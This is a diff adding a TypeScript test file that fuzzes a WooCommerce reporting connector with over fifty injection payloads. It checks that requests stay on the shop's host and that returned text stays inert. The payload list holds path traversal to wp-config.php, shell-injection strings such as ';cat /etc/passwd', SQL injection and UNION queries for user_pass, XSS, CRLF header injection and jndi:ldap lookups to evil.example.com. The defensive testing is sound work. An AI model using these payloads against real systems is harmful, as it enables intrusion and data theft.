@@ -1,0 +1,216 @@
+import type { HttpRequest, HttpResponse } from '@reporting/contract/outbound';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { ConnectorError } from '../connector.ts';
+import { MARLOW, shopQuery, type TestShops, testShops } from '../testing/shops.ts';
+import { connector } from './index.ts';
+
+/** Apart, so that it does not look like a forgotten template. */
+const DOLLAR = '$';
+
+/** Text that would do harm in a path, a query, a log, a page or a query language. */
+const PAYLOADS = [
+  '../../wp-admin/users.php',
+  '..%2f..%2fwp-config.php',
+  '/wp-json/wc/v3/customers',
+  '//evil.example.com/',
+  'https://evil.example.com/',
+  '@evil.example.com',
+  '?consumer_key=ck_x',
+  '&status=any&per_page=100',
+  '#fragment',
+  ';cat /etc/passwd',
+  '|id',
+  '$(id)',
+  '`id`',
+  "' OR '1'='1",
+  "'; DROP TABLE wp_posts; --",
+  '" OR ""="',
+  '1 UNION SELECT user_pass FROM wp_users',
+  'sleep(10)',
+  '*',
+  '%',
+  '_',
+  '%00',
+  '\u0000',
+  'a\r\nX-Injected: yes',
+  'a\nHost: evil.example.com',
+  '%0d%0aSet-Cookie:x=1',
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '"><svg onload=alert(1)>',
+  'javascript:alert(1)',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '{{7*7}}',
+  `${DOLLAR}{7*7}`,
+  '#{7*7}',
+  '<%= 7*7 %>',
+  '%{jndi:ldap://evil.example.com/a}',
+  `${DOLLAR}{jndi:ldap://evil.example.com/a}`,
+  '__proto__',
+  'constructor',
+  'toString',
+  '{"$gt":""}',
+  '[object Object]',
+  '=HYPERLINK("https://evil.example.com")',
+  '+cmd|/C calc!A0',
+  '\u202egnp.exe',
+  '\ufeff',
+  '\ud800',
+  '🛒'.repeat(50),
+  'a'.repeat(5_000),
+  '\u001b[31mred\u001b[0m',
+  'NaN',
+  '-1',
+];
+
+let shops: TestShops;
+beforeAll(async () => {
+  shops = await testShops();
+});
+afterAll(() => shops.close());
+
+/** Every request goes to the shop, to a call of its API, with parameters that the connector knows. */
+const KNOWN_PATH =
+  /^\/woocommerce\/shop\.marlowcoffee\.example\/wp-json\/(?:wc\/v3\/(?:orders|orders\/\d+\/refunds|products|reports\/sales|data\/currencies\/current))?$/;
+const KNOWN_NAMES = [
+  'after',
+  'before',
+  'orderby',
+  'order',
+  '_fields',
+  'per_page',
+  'page',
+  'include',
+  'search',
+  'date_min',
+  'date_max',
+  'period',
+];
+
+function expectHarmless(sent: readonly HttpRequest[]): void {
+  for (const { url, headers = {} } of sent) {
+    const { origin, pathname, searchParams } = new URL(url);
+    expect(origin).toBe(shops.url);
+    expect(pathname).toMatch(KNOWN_PATH);
+    for (const name of searchParams.keys()) expect(KNOWN_NAMES).toContain(name);
+    expect(Object.keys(headers).sort()).toEqual(['accept', ...(headers.authorization ? ['authorization'] : [])].sort());
+  }
+}
+
+/** An outcome, or the words that a person reads. */
+async function outcome<T>(work: Promise<T>): Promise<T | string> {
+  try {
+    return await work;
+  } catch (error) {
+    if (error instanceof ConnectorError) return error.message;
+    throw error;
+  }
+}
+
+it('has fifty payloads', () => {
+  expect(PAYLOADS.length).toBeGreaterThanOrEqual(50);
+});
+
+describe.each(PAYLOADS.map((payload, index) => [index + 1, payload]))('payload %i: %j', (_index, payload) => {
+  it('as a parameter reaches no path and no name of a query', async () => {
+    shops.http.sent.length = 0;
+    const good = { reportType: 'orders', dimension: 'country', metrics: ['orders'] };
+    const range = { startDate: '2026-10-01', endDate: '2026-10-02' };
+    for (const inputs of [
+      { ...good, reportType: payload },
+      { ...good, dimension: payload },
+      { ...good, metrics: [payload] },
+      { ...good, property: payload, campaign: payload },
+      { ...good, filter: [{ dimension: payload, operator: 'equals', value: 'x' }] },
+      { ...good, filter: [{ dimension: 'country', operator: payload, value: 'x' }] },
+      { ...good, filter: [{ dimension: 'product', operator: 'equals', value: payload }] },
+      { ...good, filter: payload },
+    ]) {
+      await outcome(connector.query(shops.context(MARLOW), shopQuery(inputs, { range })));
+    }
+    expectHarmless(shops.http.sent);
+  });
+
+  it('as a search or a filter’s value of the form is one value of the query', async () => {
+    shops.http.sent.length = 0;
+    const ask = (inputs: Record<string, string>, searchTerm: string) =>
+      outcome(
+        connector.options.filter?.(shops.context(MARLOW), {
+          type: 'woocommerce',
+          searchTerm,
+          include: [payload],
+          inputs,
+        }) ?? Promise.reject(new Error('There is no option call filter.')),
+      );
+    await ask({ filter_dimension: 'product', reportType: payload }, payload);
+    await ask({ filter_dimension: payload }, payload);
+    expectHarmless(shops.http.sent);
+    const [search] = shops.http.sent;
+    const sent = search === undefined ? null : new URL(search.url).searchParams.get('search');
+    expect(sent ?? '').toBe(payload.trim().toWellFormed());
+  });
+
+  it('as an account or a key never leaves for another host', async () => {
+    if (connector.auth.kind !== 'key') throw new Error('WooCommerce is connected by key.');
+    const { check } = connector.auth;
+    const sent: HttpRequest[] = [];
+    const http = {
+      async request(request: HttpRequest): Promise<HttpResponse> {
+        sent.push(request);
+        return { status: 404, headers: {}, body: '' };
+      },
+    };
+    const context = shops.context(MARLOW, 'read', { http });
+    const { consumer_key = '', consumer_secret = '' } = context.fields;
+    await outcome(check({ ...context, fields: { ...context.fields, consumer_key: payload } }));
+    await outcome(check({ ...context, fields: { ...context.fields, consumer_secret: payload } }));
+    expect(sent).toEqual([]);
+    const account = `shop.marlowcoffee.example${payload}`;
+    await outcome(check({ ...context, hosts: {}, fields: { ...context.fields, account } }));
+    for (const { url } of sent) {
+      const { protocol, hostname, username, password } = new URL(url);
+      expect({ protocol, username, password }).toEqual({ protocol: 'https:', username: '', password: '' });
+      expect(hostname).toMatch(/^[a-z0-9._-]+$/);
+      expect(url).not.toContain(consumer_key);
+      expect(url).not.toContain(consumer_secret);
+    }
+  });
+
+  it('in the answers of a shop stays text: names of rows, of the shop, and what it says in errors', async () => {
+    const http = {
+      async request(request: HttpRequest): Promise<HttpResponse> {
+        const answer = await shops.http.request(request);
+        if (request.url.includes('/wp-json/?'))
+          return { ...answer, body: JSON.stringify({ name: payload, timezone_string: payload }) };
+        if (!request.url.includes('/orders?')) return answer;
+        const orders = JSON.parse(answer.body) as { coupon_lines: { code: string }[]; id: number; status: string }[];
+        const [first, ...others] = orders;
+        if (first === undefined) return answer;
+        const coupon_lines = [{ code: payload, discount: '1.00' }];
+        return { ...answer, body: JSON.stringify([{ ...first, status: 'completed', coupon_lines }, ...others]) };
+      },
+    };
+    const inputs = { reportType: 'coupons', dimension: 'coupon', metrics: ['orders'] };
+    const range = { startDate: '2026-10-01', endDate: '2026-10-01' };
+    shops.http.sent.length = 0;
+    const { rows, property, columns } = await connector.query(
+      shops.context(MARLOW, 'read', { http }),
+      shopQuery(inputs, { range }),
+    );
+    expectHarmless(shops.http.sent);
+    expect(columns.map(({ key }) => key)).toEqual(['dimension', 'orders']);
+    for (const [name, orders] of rows) {
+      expect(name).toBeTypeOf('string');
+      expect(orders).toBeTypeOf('number');
+      expect(String(name)).not.toMatch(/<[a-z]/i);
+    }
+    expect(property ?? '').not.toMatch(/<[a-z]/i);
+
+    const said = {
+      request: async () => ({ status: 400, headers: {}, body: JSON.stringify({ code: payload, message: payload }) }),
+    };
+    const words = await outcome(connector.query(shops.context(MARLOW, 'read', { http: said }), shopQuery(inputs)));
+    expect(String(words)).not.toMatch(/<[a-z]|\p{Cc}/iu);
+    expect(String(words).length).toBeLessThan(400);
+  });
+});
